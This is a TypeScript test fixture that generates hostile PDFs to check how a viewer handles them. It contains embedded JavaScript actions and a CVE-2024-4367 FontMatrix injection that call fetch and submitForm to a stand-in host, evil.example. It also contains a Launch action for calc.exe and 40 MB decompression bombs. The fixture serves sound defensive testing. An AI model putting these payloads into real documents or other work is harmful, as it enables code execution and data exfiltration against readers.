import { deflateSync } from 'node:zlib'
import { fileOf } from '../../pki/testing/pades-authorities.ts'

type Hostile = { what: string; pdf: Uint8Array<ArrayBuffer>; isShown: boolean }

const text = 'BT /F1 24 Tf 72 720 Td (Umowa) Tj ET'
const font = '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>'
const call = `app.alert\\(1\\); this.submitForm\\('https://evil.example/'\\); fetch\\('https://evil.example/'\\)`
/** Payload of CVE-2024-4367: the number of a matrix that ended up in the source of a function. */
const matrix = `[1 2 3 4 5 (0\\); document.title = 'run'; fetch\\('https://evil.example/font'\\)//)]`

/** Creates a PDF with one page of text and the additions of a case. */
function pdfWith({
  catalog = '',
  page = '',
  box = '0 0 595 842',
  content = text,
  f1 = font,
  more = [] as (string | [string, string])[],
} = {}) {
  return fileOf([
    `<</Type/Catalog/Pages 2 0 R${catalog}>>`,
    '<</Type/Pages/Count 1/Kids[3 0 R]>>',
    `<</Type/Page/Parent 2 0 R/MediaBox[${box}]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>/XObject<</X 6 0 R>>>>${page}>>`,
    [`<</Length ${content.length}>>`, content],
    f1,
    ...more,
  ])
}

const link = (action: string) =>
  `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A${action}/AA<</PO${action}/PV${action}>>>>]`
const script = `<</S/JavaScript/JS(${call})>>`
const form = '/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</X 6 0 R>>>>'
const type1 = '%!PS-AdobeFont-1.0: Evil\n/FontName /Evil def\n/FontMatrix [1 2 3 4 5 (0)] readonly def\n'
const bomb = deflateSync(Buffer.alloc(40_000_000)).toString('latin1')

/** Attacks of a PDF on its viewer; `isShown`: whether the first page is shown nevertheless. */
export const hostilePdfs: Hostile[] = [
  {
    what: 'runs a script when it is opened',
    pdf: pdfWith({ catalog: `/OpenAction${script}/AA<</WC${script}>>/Names<</JavaScript<</Names[(a)${script}]>>>>` }),
    isShown: true,
  },
  {
    what: 'sends itself, starts a program and opens an address',
    pdf: pdfWith({
      catalog: '/OpenAction<</S/URI/URI(https://evil.example/open)>>',
      page: link('<</S/SubmitForm/F(https://evil.example/form)/Next<</S/Launch/F(calc.exe)>>>>'),
    }),
    isShown: true,
  },
  {
    what: 'has its content in another file',
    pdf: pdfWith({
      page: '/Group<</S/Transparency>>',
      content: `${text} /X Do`,
      more: [
        [
          '<</Type/XObject/Subtype/Image/Width 1/Height 1/ColorSpace/DeviceGray/BitsPerComponent 8/Length 0/F(https://evil.example/image)>>',
          '',
        ],
      ],
    }),
    isShown: true,
  },
  {
    what: 'has a program as the matrix of its font (CVE-2024-4367)',
    pdf: pdfWith({
      f1: `<</Type/Font/Subtype/Type1/BaseFont/Evil/FirstChar 32/LastChar 126/FontMatrix ${matrix}/FontDescriptor 6 0 R>>`,
      more: [
        `<</Type/FontDescriptor/FontName/Evil/Flags 4/FontMatrix ${matrix}/FontFile 7 0 R>>`,
        [`<</Length ${type1.length}/Length1 ${type1.length}/Length2 0/Length3 0>>`, type1],
      ],
    }),
    isShown: true,
  },
  {
    what: 'has a program as the matrix of a font of drawings',
    pdf: pdfWith({
      f1: `<</Type/Font/Subtype/Type3/FontBBox[0 0 1 1]/FontMatrix ${matrix}/FirstChar 85/LastChar 85/Widths[1]/CharProcs<</U 6 0 R>>/Encoding<</Differences[85/U]>>>>`,
      more: [['<</Length 22>>', '1 0 d0 0 0 1 1 re f   ']],
    }),
    isShown: true,
  },
  {
    what: 'says that its page is a thousand kilometres wide',
    pdf: pdfWith({ box: '0 0 9e11 3e11', page: '/UserUnit 9e9' }),
    isShown: true,
  },
  { what: 'says that its page is a line', pdf: pdfWith({ box: '0 0 1 1e9' }), isShown: true },
  {
    what: 'draws itself in itself',
    pdf: pdfWith({ content: `${text} /X Do`, more: [[`<<${form}/Length 5>>`, '/X Do']] }),
    isShown: true,
  },
  {
    what: 'unpacks to forty megabytes of nothing',
    pdf: pdfWith({ content: `${text} /X Do`, more: [[`<<${form}/Filter/FlateDecode/Length ${bomb.length}>>`, bomb]] }),
    isShown: true,
  },
  {
    what: 'has metadata that unpack to forty megabytes',
    pdf: pdfWith({
      catalog: '/Metadata 6 0 R',
      more: [[`<</Type/Metadata/Subtype/XML/Filter/FlateDecode/Length ${bomb.length}>>`, bomb]],
    }),
    isShown: true,
  },
  { what: 'breaks off', pdf: pdfWith().slice(0, 60), isShown: false },
  { what: 'is not a PDF', pdf: new TextEncoder().encode('<script>alert(1)</script>'), isShown: false },
  { what: 'is empty', pdf: new Uint8Array(), isShown: false },
  {
    what: 'has pages in a ring',
    pdf: fileOf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Count 9/Kids[2 0 R]>>']),
    isShown: false,
  },
]
